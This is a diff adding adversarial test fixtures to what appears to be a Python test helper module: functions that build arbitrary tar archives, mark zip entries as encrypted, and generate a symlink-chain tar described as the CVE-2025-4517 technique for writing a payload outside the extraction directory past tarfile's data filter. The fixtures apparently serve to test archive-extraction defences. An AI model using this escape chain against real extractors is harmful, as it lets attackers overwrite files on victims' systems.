@@ -268,3 +268,78 @@ def closed_port_url() -> str:
         s.bind(("127.0.0.1", 0))
         port = s.getsockname()[1]
     return f"http://127.0.0.1:{port}"
+
+
+# --- hostile archives (tests/adversarial) -----------------------------------------------------
+
+#: Directory names long enough that a chain of 16 of them passes PATH_MAX (4096 bytes).
+_LONG_DIR = "d" * 247
+_CHAIN_STEPS = "abcdefghijklmnop"
+
+
+def _tar_entry(name: str, kind: str = "file", data: bytes = b"", link: str = "") -> tuple:
+    return name, kind, data, link
+
+
+def write_tar(path: Path, entries, mode: str = "w") -> Path:
+    """A tar of ``(name, kind[, data[, link]])`` entries; kind is file, dir, symlink, hardlink,
+    fifo, chr or blk. PAX format, so names and link targets of any length fit."""
+    types = {
+        "file": tarfile.REGTYPE,
+        "dir": tarfile.DIRTYPE,
+        "symlink": tarfile.SYMTYPE,
+        "hardlink": tarfile.LNKTYPE,
+        "fifo": tarfile.FIFOTYPE,
+        "chr": tarfile.CHRTYPE,
+        "blk": tarfile.BLKTYPE,
+    }
+    with tarfile.open(path, mode, format=tarfile.PAX_FORMAT) as tf:
+        for entry in entries:
+            name, kind, data, link = (*entry, *("", "file", b"", "")[len(entry) :])
+            info = tarfile.TarInfo(name)
+            info.type = types[kind]
+            info.linkname = link
+            info.mode = 0o755 if kind == "dir" else 0o644
+            if kind == "file":
+                info.size = len(data)
+                tf.addfile(info, io.BytesIO(data))
+            else:
+                tf.addfile(info)
+    return path
+
+
+def symlink_chain_entries(levels_up: int, target: str, payload: bytes) -> list[tuple]:
+    """The CVE-2025-4517 technique: members that write ``target`` ``levels_up`` directories
+    above the extraction directory, past tarfile's ``data`` filter on unpatched Pythons.
+
+    Sixteen short symlinks ``a``, ``b``, ... each point at a 247-byte directory name, so the
+    chain ``a/b/.../p`` resolves to a path longer than PATH_MAX. ``os.path.realpath`` (which the
+    filter trusts) cannot ``lstat`` past that length and takes the rest of the path as plain
+    text, while the kernel, following one short link at a time, resolves it fine. A link at the
+    bottom of the chain points back up to the extraction root; ``escape`` goes through it and
+    then ``levels_up`` times ``..``: the filter sees a path inside the target, the kernel one
+    outside it. The last member writes ``escape/<target>``.
+    """
+    entries, prefix = [], ""
+    for step in _CHAIN_STEPS:
+        entries.append(_tar_entry(prefix + _LONG_DIR, "dir"))
+        entries.append(_tar_entry(prefix + step, "symlink", link=_LONG_DIR))
+        prefix += _LONG_DIR + "/"
+    pivot = "/".join(_CHAIN_STEPS) + "/" + "l" * 254
+    entries.append(_tar_entry(pivot, "symlink", link="../" * len(_CHAIN_STEPS)))
+    entries.append(_tar_entry("escape", "symlink", link=pivot + "/.." * levels_up))
+    entries.append(_tar_entry(f"escape/{target}", "file", payload))
+    return entries
+
+
+def mark_zip_encrypted(path: Path) -> Path:
+    """Set the 'encrypted' flag of every entry (local and central headers) of a zip in place;
+    zipfile cannot write encrypted entries itself."""
+    data = bytearray(path.read_bytes())
+    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        start = 0
+        while (at := data.find(signature, start)) >= 0:
+            data[at + flag_offset] |= 0x01
+            start = at + 4
+    path.write_bytes(bytes(data))
+    return path
